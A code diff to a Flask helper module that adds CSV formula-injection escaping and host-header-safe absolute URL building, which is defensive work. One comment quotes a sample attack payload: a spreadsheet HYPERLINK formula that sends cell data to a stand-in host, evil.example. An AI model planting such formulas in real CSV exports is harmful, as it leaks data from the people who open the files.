@@ -4,7 +4,7 @@ from __future__ import annotations
 import csv
 import io
 
-from flask import Response, flash, request
+from flask import Response, current_app, flash, request, url_for
 from flask_wtf import FlaskForm
 
 from .errors import DomainError
@@ -25,11 +25,35 @@ def uploaded_file(field: str) -> tuple[str, bytes] | None:
     return (storage.filename, storage.read()) if storage and storage.filename else None
 
 
+# A spreadsheet treats a cell starting with one of these as a formula (or, for tab and CR, may shift it
+# into one): `=HYPERLINK("http://evil.example/?d="&A2,"Klik")` in a product name would run when the
+# pengurus opens the export.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value):
+    """A CSV cell a spreadsheet shows as typed: text that would start a formula gets a leading apostrophe
+    (OWASP's advice). Numbers stay numbers: -5000 is an amount, not a formula."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def absolute_url(endpoint: str, **values) -> str:
+    """The full address of a page, for links read outside the site: OpenGraph, canonical, sitemap, robots.txt,
+    WhatsApp messages, password links, Midtrans' return address. Built on PUBLIC_BASE_URL when it is set,
+    so a forged `Host:` header cannot put another site's name into them (nor into the page cache)."""
+    base = current_app.config.get("PUBLIC_BASE_URL")
+    if base:
+        return base + url_for(endpoint, **values)
+    return url_for(endpoint, _external=True, **values)
+
+
 def csv_download(filename: str, header: list[str], rows) -> Response:
-    """A CSV file download of `rows` under `header`."""
+    """A CSV file download of `rows` under `header`; every text cell is made spreadsheet-safe."""
     out = io.StringIO()
     writer = csv.writer(out)
-    writer.writerow(header)
-    writer.writerows(rows)
+    writer.writerow([spreadsheet_safe(cell) for cell in header])
+    writer.writerows([spreadsheet_safe(cell) for cell in row] for row in rows)
     return Response(out.getvalue(), mimetype="text/csv",
                     headers={"Content-Disposition": f'attachment; filename="{filename}"'})
